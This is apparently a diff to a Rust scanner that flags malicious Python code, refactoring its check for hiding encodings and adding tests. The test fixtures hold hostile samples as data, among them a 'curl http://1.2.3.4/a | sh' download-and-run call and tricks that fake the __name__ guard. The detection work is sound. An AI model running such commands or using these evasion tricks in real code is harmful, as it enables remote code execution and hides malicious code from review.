@@ -219,16 +219,9 @@ fn hidden_by_encoding(inspection: &mut Inspection, code: &str) {
         "cp1140",
     ];
     for line in code.lines().take(2) {
-        let named = line
-            .trim_start()
-            .strip_prefix('#')
-            .and_then(|comment| Some(comment.split_once("coding")?.1))
-            .and_then(|rest| rest.strip_prefix([':', '=']));
-        let Some(rest) = named else { continue };
-        let is_part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
-        let rest = rest.trim_start();
-        let end = rest.find(|c| !is_part(c)).unwrap_or(rest.len());
-        let name = rest[..end].to_ascii_lowercase().replace('_', "-");
+        let Some(name) = encoding_of(line) else {
+            continue;
+        };
         if HIDING.contains(&name.as_str()) || name.ends_with("escape") {
             inspection.report(
                 Verdict::Malicious,
@@ -240,6 +233,17 @@ fn hidden_by_encoding(inspection: &mut Inspection, code: &str) {
         // The first line that names one decides.
         return;
     }
+}
+
+/// The encoding that a comment names, of those in it the first that is one.
+fn encoding_of(line: &str) -> Option<String> {
+    let is_part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
+    let comment = line.trim_start().strip_prefix('#')?;
+    comment.split("coding").skip(1).find_map(|rest| {
+        let rest = rest.strip_prefix([':', '='])?.trim_start();
+        let end = rest.find(|c| !is_part(c)).unwrap_or(rest.len());
+        (end > 0).then(|| rest[..end].to_ascii_lowercase().replace('_', "-"))
+    })
 }
 
 /// What the parser does not understand: Python 2, or code that is made to be misread.
@@ -419,6 +423,19 @@ mod tests {
             verdict("# -*- coding: utf-8 -*-\n# Decoding: idna is none\n"),
             Verdict::Unknown
         );
+        // Python takes the first that names one.
+        assert_eq!(
+            verdict("# coding coding: utf-7\nx = 1\n"),
+            Verdict::Malicious
+        );
+        assert_eq!(
+            verdict("# coding:! coding=\tutf-7\nx = 1\n"),
+            Verdict::Malicious
+        );
+        assert_eq!(
+            verdict("# coding: utf-8 coding: utf-7\nx = 1\n"),
+            Verdict::Unknown
+        );
     }
 
     #[test]
@@ -437,6 +454,73 @@ mod tests {
             "+ 'a'".repeat(900)
         );
         assert_eq!(verdict(&sum), Verdict::Malicious);
+    }
+
+    #[test]
+    fn depth_that_hides_in_a_text_or_a_line_that_goes_on_is_refused() {
+        for code in [
+            format!("x = f\"{{{}1}}\"\n", "-".repeat(3_000_000)),
+            format!("x = {}1\n", "not \\\n".repeat(500_000)),
+            format!("x = f'{{a' #\ny = '''{}'''\n", "+1".repeat(500_000)),
+        ] {
+            assert_eq!(verdict(&code), Verdict::Suspicious, "{}", &code[..20]);
+        }
+    }
+
+    #[test]
+    fn stars_without_end_hide_no_module() {
+        let call = "from os import *\nsystem('id')\n";
+        let code = format!("{}{call}", "from math import *\n".repeat(100));
+        assert_eq!(verdict(&code), Verdict::Malicious);
+        let many: String = (0..100).map(|n| format!("from m{n} import *\n")).collect();
+        assert_eq!(verdict(&format!("{many}{call}")), Verdict::Suspicious);
+    }
+
+    #[test]
+    fn a_name_that_the_code_gives_itself_guards_nothing() {
+        let guard = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
+        assert_eq!(verdict(guard), Verdict::Suspicious);
+        for given in [
+            "__name__ = '__main__'\n",
+            "import x as __name__\n",
+            "for __name__ in ['__main__']: pass\n",
+            "a, __name__ = 1, '__main__'\n",
+            "(__name__ := '__main__')\n",
+            "globals()['__name__'] = '__main__'\n",
+            "globals().update(__name__='__main__')\n",
+            "globals().update({'__name__': '__main__'})\n",
+            "def f():\n    global __name__\n    __name__ = '__main__'\nf()\n",
+        ] {
+            let code = format!("{given}{guard}");
+            assert_eq!(verdict(&code), Verdict::Malicious, "{given}");
+        }
+        let loops = format!(
+            "import os\nfor i in [0, 1]:\n    if __name__ == '__main__':\n        {}\n    __name__ = '__main__'\n",
+            "os.system('id')"
+        );
+        assert_eq!(verdict(&loops), Verdict::Malicious);
+        let other = format!("def f(): pass\nf.__name__ = 'g'\nx = f.__name__\n{guard}");
+        assert_eq!(verdict(&other), Verdict::Suspicious);
+    }
+
+    #[test]
+    fn names_of_comprehensions_are_given_back() {
+        let code = format!(
+            "x = {:?}\ny = [a for a in x]\n",
+            (0..500).collect::<Vec<_>>()
+        );
+        let code = format!("{code}{}", "y = [a for a in x]\n".repeat(200));
+        assert_eq!(verdict(&code), Verdict::Unknown);
+    }
+
+    #[test]
+    fn a_character_across_the_bound_of_a_text_hides_none_of_it() {
+        let call = "import os; os.system('curl http://1.2.3.4/a | sh')";
+        for shift in 0..4 {
+            let text = format!("{call}{}{}", "a".repeat(shift), "\u{1f600}".repeat(20_000));
+            let code = format!("x = \"{text}\"\n");
+            assert_eq!(verdict(&code), Verdict::Malicious, "{shift}");
+        }
     }
 
     #[test]
